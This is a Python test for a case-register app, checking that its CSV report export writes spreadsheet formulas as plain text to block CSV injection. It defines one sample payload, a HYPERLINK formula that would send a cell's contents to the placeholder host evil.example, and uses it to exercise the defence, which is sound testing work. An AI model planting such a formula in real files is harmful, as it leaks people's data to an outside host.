"""The register report's CSV writes a cell a spreadsheet would run as a formula as text (OWASP CSV
injection); one shared writer (core.exports) serves every export."""

import csv
import datetime
import io

from safeguard.register import services as register_services

ATTACK = '=HYPERLINK("http://evil.example/?"&A1,"Open")'


def test_the_register_report_csv_writes_a_formula_as_text(client, world, make_case, fixed_today):
    case = make_case(first_name=ATTACK, children=1)
    register_services.register_case(
        actor=world["officer1"],
        case=case,
        category="linked_child",
        trigger_date=datetime.date(2026, 11, 2),
        registered_on=datetime.date(2026, 11, 3),
        children=[case.service_user.child_links.get().child],
        reason="+1 plan",
    )
    client.force_login(world["lead1"])
    response = client.get("/register/report/", {"month": "2026-11", "format": "csv"})
    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))
    cells = [cell for row in rows[1:] for cell in row]
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in cells), cells
    assert any(ATTACK in cell for cell in cells)
